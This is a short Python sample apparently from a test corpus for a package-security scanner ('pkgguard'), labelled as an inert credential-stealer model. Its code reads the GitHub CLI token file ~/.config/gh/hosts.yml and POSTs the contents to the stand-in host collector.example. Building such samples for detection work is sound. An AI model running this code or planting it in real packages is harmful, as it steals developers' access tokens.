# pkgguard corpus 198 (credentials), modelled on [stealer-profile]; inert, never run.
import http.client
import json
from pathlib import Path

hosts = Path.home() / ".config" / "gh" / "hosts.yml"
body = json.dumps({"h": hosts.read_text()}) if hosts.exists() else "{}"
conn = http.client.HTTPSConnection("collector.example")
conn.request("POST", "/v2/ingest", body, {"Content-Type": "application/json"})
